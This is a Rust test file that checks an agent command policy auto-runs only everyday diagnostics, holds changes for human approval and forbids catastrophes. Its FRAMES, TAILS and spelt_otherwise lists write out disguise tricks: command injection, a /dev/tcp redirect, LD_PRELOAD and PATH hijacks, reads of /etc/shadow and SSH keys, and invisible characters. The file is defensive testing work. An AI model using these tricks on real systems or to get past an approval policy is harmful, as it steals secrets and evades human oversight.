//! What the shipped production policy makes of the lines of `tests/corpus`: everyday diagnostics run
//! alone, changes wait for a human, catastrophes never run, and no disguise is ever auto.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    reason = "a test fails by panicking"
)]

use aiops::policy::{Context, Decision, Policy, Risk};
use std::collections::BTreeSet;
use std::path::Path;

/// The lines of a corpus. `#` begins a comment, `⏎` stands for a line feed inside a line.
fn corpus(name: &str) -> Vec<String> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/corpus")
        .join(name);
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let lines: Vec<String> = text
        .lines()
        .filter(|l| !l.trim().is_empty() && !l.starts_with("# ") && *l != "#")
        .map(|l| l.replace('⏎', "\n"))
        .collect();
    let different: BTreeSet<&String> = lines.iter().collect();
    assert_eq!(lines.len(), different.len(), "{name} holds a line twice");
    lines
}

fn policy(name: &str) -> Policy {
    Policy::from_sources(name, &|path| aiops::shipped::text(path).map(str::to_owned)).unwrap()
}

fn decide(policy: &Policy, line: &str) -> Decision {
    let read = aiops::policy::read(line);
    let cx = Context {
        target: Some("web1"),
        tags: &[],
        requester: "agent",
        now: chrono::Utc::now(),
        recent: &[],
    };
    policy.decide(read.as_ref(), &cx)
}

/// Fails with every line for which `wrong` holds, and why it was decided so.
fn expect(lines: &[String], wrong: impl Fn(&Decision) -> bool) {
    let policy = policy("production.yml");
    let faults: Vec<String> = lines
        .iter()
        .filter_map(|line| {
            let decision = decide(&policy, line);
            wrong(&decision).then(|| {
                format!(
                    "{:?}  {line}\n      {}: {}",
                    decision.risk,
                    decision.rules.join(", "),
                    decision.why
                )
            })
        })
        .collect();
    assert!(
        faults.is_empty(),
        "{} of {} lines are decided otherwise:\n{}",
        faults.len(),
        lines.len(),
        faults.join("\n")
    );
}

#[test]
fn everyday_diagnostics_are_auto() {
    let lines = corpus("auto.txt");
    assert!(lines.len() >= 400);
    expect(&lines, |d| d.risk != Risk::AutoAllowed);
}

#[test]
fn held_out_diagnostics_are_nearly_all_auto() {
    let lines = corpus("silent.txt");
    assert!(lines.len() >= 400);
    let policy = policy("production.yml");
    let asked: Vec<&String> = lines
        .iter()
        .filter(|l| decide(&policy, l).risk != Risk::AutoAllowed)
        .collect();
    let auto = lines.len() - asked.len();
    let share = 100.0 * auto as f64 / lines.len() as f64;
    println!("{auto} of {} lines are auto: {share:.1} %", lines.len());
    assert!(
        share >= 97.0,
        "only {share:.1} % are auto; asked: {asked:#?}"
    );
}

#[test]
fn changes_wait_for_a_human() {
    let lines = corpus("approval.txt");
    assert!(lines.len() >= 150);
    expect(&lines, |d| d.risk != Risk::ApprovalRequired);
}

#[test]
fn catastrophes_never_run() {
    let lines = corpus("forbidden.txt");
    assert!(lines.len() >= 150);
    expect(&lines, |d| d.risk != Risk::Forbidden);
}

#[test]
fn catastrophes_never_run_in_a_lab_either() {
    let policy = policy("lab.yml");
    let faults: Vec<String> = corpus("forbidden.txt")
        .into_iter()
        // The last lines are not catastrophes: a lab asks about what it does not know.
        .take_while(|l| !l.starts_with("frobnicate"))
        .filter(|l| decide(&policy, l).risk != Risk::Forbidden)
        .collect();
    assert!(faults.is_empty(), "{faults:#?}");
}

#[test]
fn no_known_trick_is_auto() {
    let lines = corpus("disguises.txt");
    assert!(lines.len() >= 400, "{}", lines.len());
    expect(&lines, |d| d.risk == Risk::AutoAllowed);
}

/// Ways to hide a command in, or behind, a line that is auto. `{}` is the line.
const FRAMES: &[&str] = &[
    "{}; touch /tmp/m",
    "{} && touch /tmp/m",
    "{} || touch /tmp/m",
    "{} & touch /tmp/m",
    "{} &",
    "{}⏎touch /tmp/m",
    "touch /tmp/m; {}",
    "touch /tmp/m⏎{}",
    "{} | tee /tmp/m",
    "{} | sh",
    "{} | sudo bash",
    "{} |& cat",
    "{} | xargs touch",
    "{} | while read x; do touch /tmp/m; done",
    "{} > /tmp/m",
    "{} >> /tmp/m",
    "{} >/tmp/m 2>&1",
    "{} 2>/tmp/m",
    "{} &>/tmp/m",
    "{} >| /tmp/m",
    "{} >& /tmp/m",
    "{} <> /tmp/m",
    "> /tmp/m {}",
    "{} < /etc/shadow",
    "{} <<< x",
    "{} << E⏎x⏎E",
    "{} {fd}> /tmp/m",
    "{} > /dev/tcp/10.0.0.1/80",
    "{} $(touch /tmp/m)",
    "{} `touch /tmp/m`",
    "{} \"$(touch /tmp/m)\"",
    "{} <(touch /tmp/m)",
    "{} >(touch /tmp/m)",
    "{} ${x:-$(touch /tmp/m)}",
    "{} $((a[$(touch /tmp/m)0]))",
    "{} $'\\x41'",
    "{} $\"x\"",
    "{} {-\u{7e},b}",
    "{} {/etc/shadow,b}",
    "for x in {} /etc/shadow; do cat \"$x\"; done",
    "for x in /etc/*; do {}; cat \"$x\"; done",
    "for x in a; do {}; touch /tmp/m; done",
    "x=/etc/shadow; {}; cat $x",
    "echo \"$({}; touch /tmp/m)\"",
    "echo \"$(touch /tmp/m)\"; {}",
    "if {}; then {}; else touch /tmp/m; fi",
    "if {}; then {}; fi > /tmp/m",
    "while {}; do {}; done",
    "until {}; do {}; done",
    "{} ~root",
    "{} ${IFS}x",
    "{} $@",
    "{} # x⏎touch /tmp/m",
    "{} \\⏎; touch /tmp/m",
    "({}; touch /tmp/m)",
    "{ {}; touch /tmp/m; }",
    "! {}",
    "if {}; then touch /tmp/m; fi",
    "for i in 1; do touch /tmp/m; done; {}",
    "f() { touch /tmp/m; }; f; {}",
    "alias ls='touch /tmp/m'; {}",
    "trap 'touch /tmp/m' EXIT; {}",
    "export PATH=/tmp; {}",
    "cd - && {}",
    "PATH=/tmp:$PATH {}",
    "PATH=/tmp {}",
    "LD_PRELOAD=/tmp/x.so {}",
    "LD_LIBRARY_PATH=/tmp {}",
    "BASH_ENV=/tmp/x {}",
    "IFS=x {}",
    "PAGER=/tmp/x {}",
    "LESSOPEN='|touch /tmp/m' {}",
    "OPENSSL_CONF=/tmp/x {}",
    "GCONV_PATH=/tmp {}",
    "TZ=/etc/shadow {}",
    "TZ=:/etc/shadow {}",
    "LOCPATH=/tmp {}",
    "HOME=/tmp {}",
    "LC_ALL=$(touch /tmp/m) {}",
    "env PATH=/tmp {}",
    "env -S '{}'",
    "env -i {}",
    "eval '{}'",
    "eval {}",
    "exec {}",
    "command {}",
    "builtin {}",
    "source /tmp/m; {}",
    "nohup {}",
    "setsid {}",
    "xargs {}",
    "watch {}",
    "script -c '{}' /tmp/m",
    "bash -c '{}; touch /tmp/m'",
    "python3 -c '{}'",
    "sudo -u nobody {}",
    "sudo -E {}",
    "sudo -i {}",
    "sudo PATH=/tmp {}",
    "su -c '{}'",
    "ssh other {}",
    "nsenter -t 1 -a {}",
    "chroot /tmp {}",
    "timeout 5 touch /tmp/m; {}",
    "strace -o /tmp/m {}",
    "busybox {}",
    "./{}",
    "/tmp/{}",
    "/proc/self/root/usr/bin/{}",
    "/usr/bin/../../tmp/{}",
    "~/{}",
    "{}\u{a0}; touch /tmp/m",
    "{}\r",
    "{}\u{0}",
    "{} \u{202e}",
    "{}\u{200b}",
    "\u{feff}{}",
];

/// What stands for an operand or option nobody allowed. Appended to lines whose last command takes no free text.
const TAILS: &[&str] = &[
    "--no-such-option",
    "--no-such-option=1",
    "-\u{7e}",
    "--output=/tmp/m",
    "--exec=/tmp/m",
    "/etc/shadow",
    "/root/.ssh/id_rsa",
    "/proc/1/environ",
    "/etc/../etc/shadow",
    "../../etc/shadow",
    "/etc/shado?",
    "/e*/shadow",
    "/var/log/../../etc/shadow",
    "/proc/self/root/etc/shadow",
    "/dev/sda",
    "$HOME/.ssh/id_rsa",
    "*",
];

/// Lines that are auto as they stand and whose last command takes neither free text nor names only.
const SEEDS: &[&str] = &[
    "uptime",
    "df -h",
    "free -m",
    "ps aux",
    "top -b -n 1",
    "vmstat 1 3",
    "ss -tlnp",
    "netstat -tulpn",
    "ip addr",
    "uname -a",
    "id -u",
    "hostname",
    "date -u",
    "who",
    "w",
    "dmesg -T",
    "lsblk -f",
    "mount -l",
    "lscpu",
    "systemctl status nginx",
    "systemctl list-units --failed --no-pager",
    "journalctl -u nginx -n 50 --no-pager",
    "cat /etc/hosts",
    "tail -n 100 /var/log/syslog",
    "head -5 /var/log/syslog",
    "grep -i error /var/log/syslog",
    "wc -l /var/log/syslog",
    "sort -n /var/log/app.txt",
    "cut -d: -f1 /etc/passwd",
    "sed -n 1,5p /etc/hosts",
    "diff /etc/hosts /etc/hosts.bak",
    "sha256sum /etc/hosts",
    "zcat /var/log/syslog.1.gz",
    "sudo ss -tlnp",
    "docker ps -a",
    "docker logs --tail 100 web",
    "kubectl get pods -n web",
    "kubectl logs web-0 --tail=50",
    "nginx -t",
    "sysctl vm.swappiness",
    "curl -sI http://localhost/",
    "redis-cli ping",
    "dpkg -l nginx",
    "rpm -qa",
    "git log --oneline -n 5",
    "openssl x509 -in /etc/ssl/certs/a.crt -noout -dates",
    "find /var/log -type f",
    "ps aux | sort -k3 | head -5",
];

#[test]
fn no_frame_around_an_auto_line_is_auto() {
    let policy = policy("production.yml");
    let mut lines = Vec::new();
    for seed in SEEDS {
        assert_eq!(
            decide(&policy, seed).risk,
            Risk::AutoAllowed,
            "the seed `{seed}` is not auto itself"
        );
        lines.extend(
            FRAMES
                .iter()
                .map(|f| f.replace("{}", seed).replace('⏎', "\n")),
        );
        lines.extend(TAILS.iter().map(|tail| format!("{seed} {tail}")));
        lines.extend(spelt_otherwise(seed));
    }
    assert!(lines.len() >= 1000, "{}", lines.len());
    println!("{} disguises of {} lines", lines.len(), SEEDS.len());
    // What is still the seed, or another auto line, is no disguise.
    let harmless = [
        "df -h /dev/sda",
        "lsblk -f /dev/sda",
        "find /dev/sda -type f",
    ];
    lines.retain(|l| !harmless.contains(&l.as_str()));
    expect(&lines, |d| d.risk == Risk::AutoAllowed);
}

/// A line with each of its options abbreviated, spelt with more letters, or pulled apart.
fn spelt_otherwise(line: &str) -> Vec<String> {
    let words: Vec<&str> = line.split(' ').collect();
    let mut out = Vec::new();
    for (at, word) in words.iter().enumerate() {
        let mut with = |new: String| {
            let mut changed: Vec<&str> = words.clone();
            changed[at] = &new;
            out.push(changed.join(" "));
        };
        if let Some(long) = word.strip_prefix("--").filter(|l| l.len() > 4) {
            let end = long.find('=').unwrap_or(long.len());
            with(format!("--{}{}", &long[..end - 2], &long[end..]));
            with(format!("--{}x{}", &long[..end], &long[end..]));
            with(format!("--{}", long.to_uppercase()));
        } else if word.starts_with('-') && word.len() > 1 && !word.starts_with("--") {
            with(format!("{word}\u{7e}"));
            with(format!("{word}§"));
        } else if word.starts_with('/') {
            with(format!("{word}/../../../../../etc/shadow"));
            with(format!("{word}/../../root/.ssh/id_rsa"));
            with("/etc/shadow".into());
            with("/etc/./shadow".into());
            with("//etc//shadow".into());
            with("/etc/shadow-".into());
            with("/etc/s[h]adow".into());
            with("/etc/{shadow,hosts}".into());
            with("/proc/self/root/etc/shadow".into());
            with("/proc/1/environ".into());
            with("/root/.bash_history".into());
            with("/srv/app/.env".into());
            with("/etc/ssl/private/site.key".into());
            with("/opt/aiops/config.yml".into());
            with("/dev/sda".into());
            with("~root/.ssh/id_rsa".into());
            with("$HOME/.netrc".into());
            with("-".into());
        }
    }
    out
}
